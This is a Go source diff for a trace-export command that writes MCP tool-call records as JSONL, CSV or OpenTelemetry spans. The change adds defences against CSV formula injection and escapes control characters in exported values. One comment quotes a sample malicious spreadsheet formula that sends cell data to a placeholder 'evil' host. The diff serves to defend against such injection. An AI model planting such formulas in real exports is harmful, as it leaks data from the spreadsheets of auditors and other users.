@@ -34,7 +34,6 @@ type exportOptions struct {
 	endpoint    string
 	includeArgs bool
 	timeout     time.Duration
-	tty         func() bool // stdout is a terminal
 }
 
 func init() {
@@ -42,7 +41,7 @@ func init() {
 }
 
 func newExportCmd(s streams, runF func(context.Context, streams, *exportOptions) error) *cobra.Command {
-	o := &exportOptions{tty: func() bool { return terminalWidth(s.out) > 0 }}
+	o := &exportOptions{}
 	cmd := &cobra.Command{
 		Use:   "export BUNDLE --format jsonl|csv|otlp [--out FILE] [--endpoint URL] [--include-arguments]",
 		Short: "Export one record per attempt as JSON Lines, CSV, or OpenTelemetry spans over OTLP/HTTP",
@@ -51,9 +50,14 @@ retry link, snapshot, correlation, JSON-RPC id, and the digests of its line,
 request, response and arguments.
 
   jsonl  one JSON object per line (evidence text \u-escaped)
-  csv    RFC 4180 with a header row (encoding/csv quoting; on a terminal,
-         control characters are shown escaped instead; note that CSV
-         readers such as encoding/csv turn a CR LF inside a value into LF)
+  csv    RFC 4180 with a header row (encoding/csv quoting). Evidence text
+         is escaped as the text output does (control, bidi and invisible
+         characters as Go escapes; arguments and result as compact JSON
+         with \u escapes), so no raw control reaches a terminal through a
+         pipe or a spreadsheet cell. A cell a spreadsheet would run as a
+         formula gets a leading ' (OWASP, CSV injection): one that starts
+         with =, +, @, TAB or CR, or with - unless the whole cell is a
+         number (-32602, -1.5)
   otlp   one span per attempt, sent over OTLP/HTTP (protobuf) to --endpoint,
          following the OpenTelemetry MCP semantic conventions: span name
          "tools/call TOOL", kind client, mcp.method.name, gen_ai.tool.name,
@@ -62,13 +66,17 @@ request, response and arguments.
          parent is the traceparent the call carried in params._meta (else a
          new trace), start and end are the recorded times, and
          tracectl.attempt_id and tracectl.line_digest tie it to the evidence.
-         A retry links to the span of the attempt it retries.
+         A retry links to the span of the attempt it retries. Span names and
+         string attributes show control, bidi and invisible characters as Go
+         escapes, as the text output does (JSON values: as \u escapes)
 
 Tool arguments and results may hold secrets: they are exported (from the
 retained request and response bytes) only with --include-arguments, as
 arguments/result, or gen_ai.tool.call.arguments/gen_ai.tool.call.result.
 --trusted-key verifies the bundle first and refuses to export one that does
-not verify (exit 1, or 3 for incomplete).`,
+not verify (exit 1, or 3 for incomplete). A collector that refuses the spans
+or cannot be reached within --timeout is a network failure (exit 5; see
+tracectl help exit-codes).`,
 		Example: "  tracectl export --format jsonl run.trace\n  tracectl export --format csv --out calls.csv run.trace\n" +
 			"  tracectl export --format otlp --endpoint http://localhost:4318 run.trace",
 		Args: cobra.ExactArgs(1),
@@ -105,9 +113,72 @@ func csvRow(r inspect.Record, withArgs bool) []string {
 		r.CorrelationID, r.Traceparent, r.JSONRPCID, r.ProtocolEra, r.ProtocolVersion, r.ExecutionScope,
 		r.LineDigest, r.RequestDigest, strconv.FormatInt(r.RequestLength, 10), r.ResponseDigest, strconv.FormatInt(r.ResponseLength, 10), r.ArgumentsDigest}
 	if withArgs {
-		row = append(row, string(r.Arguments), string(r.Result), r.PayloadProblem)
+		row = append(row, jsonText(r.Arguments), jsonText(r.Result), escapeTerminal(r.PayloadProblem))
+	}
+	for i := range row {
+		if i < len(csvColumns) {
+			row[i] = escapeTerminal(row[i])
+		}
+		row[i] = csvCell(row[i])
 	}
 	return row
+}
+
+// csvCell defuses a cell a spreadsheet would evaluate as a formula (OWASP,
+// CSV injection): a leading =, +, @, TAB or CR, or a - that does not start
+// a plain number, gets a leading ' so the cell is shown as text. A tool
+// name is chosen by the client or declared by the server, so a cell like
+// =HYPERLINK("http://evil/?"&A1,"open") would otherwise run in the
+// auditor's spreadsheet. Negative numbers (an error code) stay numbers.
+func csvCell(s string) string {
+	if s == "" {
+		return s
+	}
+	switch s[0] {
+	case '=', '+', '@', '\t', '\r':
+		return "'" + s
+	case '-':
+		if !isDecimal(s[1:]) {
+			return "'" + s
+		}
+	}
+	return s
+}
+
+// isDecimal reports whether s is a whole decimal number: digits, an
+// optional fraction and an optional exponent, and nothing else (so
+// "2+3+cmd|..." after a minus is not a number).
+func isDecimal(s string) bool {
+	digits := func(i int) int {
+		j := i
+		for j < len(s) && s[j] >= '0' && s[j] <= '9' {
+			j++
+		}
+		return j
+	}
+	i := digits(0)
+	if i == 0 {
+		return false
+	}
+	if i < len(s) && s[i] == '.' {
+		j := digits(i + 1)
+		if j == i+1 {
+			return false
+		}
+		i = j
+	}
+	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
+		i++
+		if i < len(s) && (s[i] == '+' || s[i] == '-') {
+			i++
+		}
+		j := digits(i)
+		if j == i {
+			return false
+		}
+		i = j
+	}
+	return i == len(s)
 }
 
 func runExport(ctx context.Context, s streams, o *exportOptions) error {
@@ -149,7 +220,8 @@ func runExport(ctx context.Context, s streams, o *exportOptions) error {
 	if o.format == "otlp" {
 		n, err := exportOTLP(ctx, b, recs, o)
 		if err != nil {
-			return fmt.Errorf("otlp export to %s: %w", o.endpoint, err)
+			return ioErr(fmt.Errorf("otlp export to %s: %w", o.endpoint, err),
+				"check that a collector accepts OTLP/HTTP at --endpoint; nothing was changed, so the export can be run again")
 		}
 		fmt.Fprintf(s.err, "tracectl: exported %d spans to %s\n", n, escapeTerminal(o.endpoint))
 		return nil
@@ -165,10 +237,6 @@ func runExport(ctx context.Context, s streams, o *exportOptions) error {
 			buf.WriteByte('\n')
 		}
 	} else {
-		// Exact values (encoding/csv quotes commas, quotes and newlines),
-		// except on a terminal, which would interpret the control
-		// characters a hostile tool name carries.
-		tty := o.out == "" && o.tty()
 		cols := csvColumns
 		if o.includeArgs {
 			cols = append(cols[:len(cols):len(cols)], "arguments", "result", "payload_problem")
@@ -176,13 +244,7 @@ func runExport(ctx context.Context, s streams, o *exportOptions) error {
 		w := csv.NewWriter(&buf)
 		w.Write(cols)
 		for _, r := range recs {
-			row := csvRow(r, o.includeArgs)
-			if tty {
-				for i := range row {
-					row[i] = escapeTerminal(row[i])
-				}
-			}
-			w.Write(row)
+			w.Write(csvRow(r, o.includeArgs))
 		}
 		w.Flush()
 		if err := w.Error(); err != nil {
@@ -215,16 +277,19 @@ func refuseUnverified(b *inspect.Bundle) error {
 func writeNewFile(path string, data []byte) error {
 	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
 	if err != nil {
+		if ioFailure(err) {
+			return ioErr(err, "")
+		}
 		return usageErr(err, "the output must not exist yet; choose a new path")
 	}
 	if _, err := f.Write(data); err != nil {
 		f.Close()
 		os.Remove(path)
-		return fmt.Errorf("write %s: %w", path, err)
+		return ioErr(fmt.Errorf("write %s: %w", path, err), "")
 	}
 	if err := f.Close(); err != nil {
 		os.Remove(path)
-		return fmt.Errorf("write %s: %w", path, err)
+		return ioErr(fmt.Errorf("write %s: %w", path, err), "")
 	}
 	return nil
 }
@@ -303,10 +368,10 @@ func spanOf(b *inspect.Bundle, r inspect.Record) (string, []attribute.KeyValue, 
 		add(attrNetTransport, "tcp")
 	}
 	if r.Arguments != nil {
-		add(attrToolArguments, string(r.Arguments))
+		add(attrToolArguments, jsonText(r.Arguments))
 	}
 	if r.Result != nil {
-		add(attrToolResult, string(r.Result))
+		add(attrToolResult, jsonText(r.Result))
 	}
 	status, desc := codes.Unset, ""
 	switch r.Outcome {
@@ -327,7 +392,31 @@ func spanOf(b *inspect.Bundle, r inspect.Record) (string, []attribute.KeyValue, 
 		add(attrErrorType, r.Outcome)
 		status, desc = codes.Error, r.OutcomeLabel
 	}
-	return name, attrs, status, desc
+	// Every string here may come from the evidence (a tool name, a
+	// correlation id, a JSON-RPC id), and a trace viewer or a log pipeline
+	// downstream shows it raw: escaped here, once, whatever was added.
+	for i, kv := range attrs {
+		if kv.Value.Type() == attribute.STRING {
+			attrs[i] = attribute.String(string(kv.Key), escapeTerminal(kv.Value.AsString()))
+		}
+	}
+	return escapeTerminal(name), attrs, status, escapeTerminal(desc)
+}
+
+// jsonText is the text of a recorded JSON value as a CSV cell or a span
+// attribute: compacted (recorded bytes may hold raw whitespace between
+// members) and with every character escapeTerminal would escape written as
+// a \u escape inside strings, so it parses to the same value. Bytes that
+// are not JSON are escaped as text; nil is "".
+func jsonText(raw []byte) string {
+	if raw == nil {
+		return ""
+	}
+	var b bytes.Buffer
+	if err := json.Compact(&b, raw); err != nil {
+		return escapeTerminal(string(raw))
+	}
+	return string(jsonSafe(b.Bytes()))
 }
 
 // exportOTLP sends one span per attempt and returns how many were sent.
@@ -340,8 +429,8 @@ func exportOTLP(ctx context.Context, b *inspect.Bundle, recs []inspect.Record, o
 		return 0, err
 	}
 	res := resource.NewSchemaless(attribute.String("service.name", "tracectl"),
-		attribute.String("tracectl.producer", b.Header.Producer.Name+" "+b.Header.Producer.Version),
-		attribute.String("tracectl.server", b.Header.Server.Name))
+		attribute.String("tracectl.producer", escapeTerminal(b.Header.Producer.Name+" "+b.Header.Producer.Version)),
+		attribute.String("tracectl.server", escapeTerminal(b.Header.Server.Name)))
 	errc := make(chan error, 1)
 	// The SDK reports export errors to a global handler that logs them;
 	// errExporter returns them instead, so the log would only repeat them.
@@ -364,7 +453,7 @@ func exportOTLP(ctx context.Context, b *inspect.Bundle, recs []inspect.Record, o
 		}
 		opts := []trace.SpanStartOption{trace.WithSpanKind(trace.SpanKindClient), trace.WithTimestamp(start), trace.WithAttributes(attrs...)}
 		if sc, ok := spans[r.RetryOf]; ok {
-			opts = append(opts, trace.WithLinks(trace.Link{SpanContext: sc, Attributes: []attribute.KeyValue{attribute.String(attrRetryBasis, r.RetryBasis)}}))
+			opts = append(opts, trace.WithLinks(trace.Link{SpanContext: sc, Attributes: []attribute.KeyValue{attribute.String(attrRetryBasis, escapeTerminal(r.RetryBasis))}}))
 		}
 		_, span := tracer.Start(parent, name, opts...)
 		span.SetStatus(status, desc)
